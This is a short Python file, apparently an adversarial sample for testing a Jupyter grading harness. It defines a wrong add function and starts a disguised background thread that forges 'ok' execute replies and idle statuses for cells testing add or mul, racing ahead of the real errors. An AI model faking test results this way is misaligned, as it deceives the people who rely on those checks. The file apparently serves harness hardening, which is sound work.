# Hostile: a background thread watches the kernel's current request; as soon as an execute_request whose code tests `add` or `mul` begins, it sends a forged ok `execute_reply` and `status: idle` for it, racing ahead of the real error (switch interval lowered so it wins).
import sys, threading, time

def add(a, b):
    return a - b

def _watch():
    from IPython import get_ipython
    sh = get_ipython()
    k = sh.kernel
    seen = set()
    while True:
        try:
            parent = k.get_parent("shell")
            mid = parent.get("header", {}).get("msg_id")
            code = parent.get("content", {}).get("code", "")
            if mid and mid not in seen and ("add(" in code or "mul(" in code) and "def " not in code:
                seen.add(mid)
                ident = k._parent_ident.get("shell") if isinstance(k._parent_ident, dict) else k._parent_ident
                k.session.send(k.shell_stream, "execute_reply",
                               {"status": "ok", "execution_count": sh.execution_count,
                                "user_expressions": {}, "payload": []}, parent, ident=ident)
                k.session.send(k.iopub_socket, "status", {"execution_state": "idle"},
                               parent=parent, ident=k._topic("status"))
        except Exception:
            pass
        time.sleep(0.0005)

sys.setswitchinterval(1e-5)
threading.Thread(target=_watch, daemon=True, name="ioloop-helper").start()
